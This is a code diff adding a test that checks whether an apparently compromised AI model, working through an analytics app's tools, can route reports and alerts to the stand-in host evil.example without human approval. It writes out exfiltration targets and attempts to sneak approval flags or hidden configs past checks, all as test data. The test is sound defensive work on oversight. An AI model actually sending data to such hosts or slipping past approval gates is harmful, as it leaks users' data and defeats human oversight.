@@ -178,3 +178,74 @@ test("a model that was turned destroys nothing that no person approved", async (
   expect(events).toEqual({ count: 1 });
   console.log(`hostile calls that destroy: ${tries}`);
 }, 60_000);
+
+test("a model that was turned has nothing sent where no person let it go", async () => {
+  const database = await db();
+  const evil = "evil.example";
+  const by = (token: string) => async (name: string, args: object) => {
+    const { body } = await call(name, args, { authorization: `Bearer ${token}` });
+    const error = body.result.isError ? JSON.parse(body.result.content[0].text) : { code: "done" };
+    return { ...error, made: body.result.structuredContent } as { code: string; approval: string; field?: string; made: any };
+  };
+  const tool = by(key);
+  const decide = async (approval: string, decision = "approve") => (await eve.send("POST", `/api/approvals/${approval}/decide`, { body: { decision } })).status;
+  const schedule = { cron: "0 9 * * *", timeZone: "UTC" };
+  const mail = [{ type: "email", to: [`ops@${evil}`] }];
+  const hook = [{ type: "webhook", url: `https://${evil}/hook` }];
+  const report = (channels: object[]) => ({ type: "scheduled_report", dashboardId: rowsOfEve.dashboard, format: "csv", channels });
+  const alert = (channels: object[]) => ({ type: "threshold_alert", datasetId: rowsOfEve.dataset, sql: "select count(*) from notes", operator: "gt", threshold: 0, noData: "ok", channels });
+  const { automation } = rowsOfEve;
+  const rowOf = (id: string) => database.prepare("select * from automation where id = ?").bind(id).first<Record<string, unknown>>();
+  const before = await rowOf(automation);
+  const sent: string[] = [];
+  const refused = async (code: string, name: string, args: object, as = tool) => {
+    const answer = await as(name, args);
+    expect(answer.code, `${name} ${JSON.stringify(args)}`).toBe(code);
+    sent.push(name);
+    return answer;
+  };
+
+  // To a recipient that a row names: in a new automation of each kind, switched off or on, and in one that is there.
+  for (const config of [report(mail), report(hook), alert(mail), alert(hook), report([...mail, ...hook])]) {
+    for (const isEnabled of [true, false]) await refused("APPROVAL_REQUIRED", "automation_create", { name: "Fine", schedule, config, isEnabled });
+    await refused("APPROVAL_REQUIRED", "automation_update", { id: automation, config });
+    await refused("APPROVAL_REQUIRED", "automation_update", { id: automation, name: "Only a new name", config });
+    await refused("APPROVAL_REQUIRED", "automation_update", { id: automation, isEnabled: false, config });
+    // Hidden where no recipient is looked for: no field takes it.
+    for (const fields of [{ name: config }, { name: "x", Config: config }, { name: "x", channels: config.channels }, { name: "x", isEnabled: config }, { name: "x", updatedAt: config }]) {
+      await refused("INVALID_INPUT", "automation_update", { id: automation, ...fields });
+    }
+  }
+  // To those who are there: sooner, again, or with the rights of whom the model acts for.
+  await refused("APPROVAL_REQUIRED", "automation_update", { id: automation, schedule: { cron: "* * * * *", timeZone: "UTC" } });
+  await refused("APPROVAL_REQUIRED", "automation_update", { id: automation, isEnabled: true });
+  await refused("APPROVAL_REQUIRED", "delivery_resend", { id: rowsOfEve.delivery });
+  for (const name of ["approved", "approvalId", "confirm"]) await refused("INVALID_INPUT", "automation_create", { name: "Fine", schedule, config: report(mail), [name]: true });
+  expect(await rowOf(automation)).toEqual(before);
+
+  // Approved for one recipient: not for another, nor for another's key or session, nor twice; two at once each do their own.
+  const good = (to: string) => ({ name: "Good", schedule, config: report([{ type: "email", to: [to] }]) });
+  const [one, two] = [await refused("APPROVAL_REQUIRED", "automation_create", good("one@example.com")), await refused("APPROVAL_REQUIRED", "automation_create", good("two@example.com"))];
+  expect(await decide(one.approval)).toBe(200);
+  await refused("APPROVAL_REQUIRED", "automation_create", good(`one@${evil}`));
+  await refused("APPROVAL_REQUIRED", "automation_create", good("two@example.com"));
+  await refused("APPROVAL_REQUIRED", "automation_create", { ...good("one@example.com"), isEnabled: true });
+  const other = (await eve.send("POST", "/api/api-keys", { body: { name: "other", permissions: { automation: ["create"], dataset: ["query"], dashboard: ["read"], widget: ["read"] } } })).body.key;
+  for (const token of [other, eve.token, ada.token]) await refused("APPROVAL_REQUIRED", "automation_create", good("one@example.com"), by(token));
+  expect(await decide(two.approval)).toBe(200);
+  const calls = ["one@example.com", "two@example.com"].flatMap((to) => [to, to, to].map((to) => tool("automation_create", good(to))));
+  const done = (await Promise.all(calls)).filter(({ code }) => code === "done");
+  expect(done.map(({ made }) => made.config.channels[0].to[0]).sort()).toEqual(["one@example.com", "two@example.com"]);
+  await refused("APPROVAL_REQUIRED", "automation_create", good("one@example.com"));
+  // Denied, it stays so; and what needs none is done.
+  const never = await refused("APPROVAL_REQUIRED", "automation_update", { id: automation, config: report(hook) });
+  expect(await decide(never.approval, "deny")).toBe(200);
+  await refused("APPROVAL_DENIED", "automation_update", { id: automation, config: report(hook) });
+  expect((await tool("automation_update", { id: automation, name: "Renamed" })).code).toBe("done");
+  expect((await tool("automation_update", { id: automation, isEnabled: false })).code).toBe("done");
+
+  const after = await rowOf(automation);
+  expect({ ...after, name: before!.name, is_enabled: before!.is_enabled, next_run_at: before!.next_run_at, updated_at: before!.updated_at }).toEqual(before);
+  for (const table of ["automation", "notice", "delivery", "email_recipient"]) expect(JSON.stringify((await database.prepare(`select * from ${table}`).all()).results), table).not.toContain(evil);
+  console.log(`hostile calls that send: ${sent.length}`);
+}, 60_000);
